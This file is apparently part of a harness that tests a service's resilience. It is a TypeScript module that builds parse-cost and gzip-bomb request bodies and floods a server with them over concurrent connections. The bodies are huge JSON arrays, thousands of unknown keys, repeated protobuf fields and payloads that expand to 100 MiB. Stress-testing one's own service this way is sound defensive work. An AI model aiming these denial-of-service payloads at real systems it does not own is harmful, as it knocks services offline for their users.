import { gzipSync } from "node:zlib";
import { type Attack, inParallel } from "../attack.ts";
import { type ClientRequest, openClient, type Wire } from "../client.ts";
import { unknownToken } from "../requests.ts";

const CONNECTIONS = 4;
const MIB = 2 ** 20;

/** Whether the attacker's token belongs to another organization, or is unknown to the server. */
export type Token = "valid" | "unknown";
type Body = Omit<ClientRequest, "token">;

/** Bodies within the limit of 1 MiB that cost far more to parse than their size suggests. */
export function largeLists(wire: Wire, token: Token): Attack {
  return sendBodies(wire, token, () =>
    wire === "rest"
      ? [manyObjects(), manyKeys()]
      : wire === "grpc"
        ? [manyIdps()]
        : [manyObjects(), manyKeys(), manyIdps()],
  );
}

/** Small bodies that decompress to 1 MiB of such lists, or to more than the limit. */
export function gzipBombs(wire: "grpc" | "connect", token: Token): Attack {
  return sendBodies(wire, token, () => {
    const tooMuch: Body = { body: Buffer.alloc(100 * MIB), format: wire === "grpc" ? "proto" : "json" };
    const lists = wire === "grpc" ? [manyIdps()] : [manyObjects(), manyIdps()];
    return [...lists, tooMuch].map((body) => ({ ...body, body: gzipSync(body.body), isGzip: true }));
  });
}

/** 340,000 empty messages and a number. */
function manyObjects(): Body {
  return { body: Buffer.from(`{"idps":[${"{},".repeat(340_000)}1]}`), format: "json" };
}

/** 90,000 unknown keys. */
function manyKeys(): Body {
  const keys = Array.from({ length: 90_000 }, (_, index) => `"${index.toString(36)}":1`);
  return { body: Buffer.from(`{${keys.join(",")}}`), format: "json" };
}

/** 524,000 times field 10 (`idps`) with length 0. */
function manyIdps(): Body {
  return { body: Buffer.alloc(2 * 524_000, Buffer.of(0x52, 0x00)), format: "proto" };
}

/** Sends the bodies repeatedly over a few concurrent connections. */
function sendBodies(wire: Wire, token: Token, makeBodies: () => Body[]): Attack {
  return async (context) => {
    const bodies = makeBodies();
    await inParallel(CONNECTIONS, async (index) => {
      let sent = index;
      while (context.isGoing()) {
        const client = await openClient(context, wire);
        while (client?.isOpen() && context.isGoing()) {
          const body = bodies[sent++ % bodies.length] as Body;
          await client.ask({ ...body, token: token === "valid" ? context.plan.token : unknownToken() });
        }
        client?.close();
      }
    });
  };
}
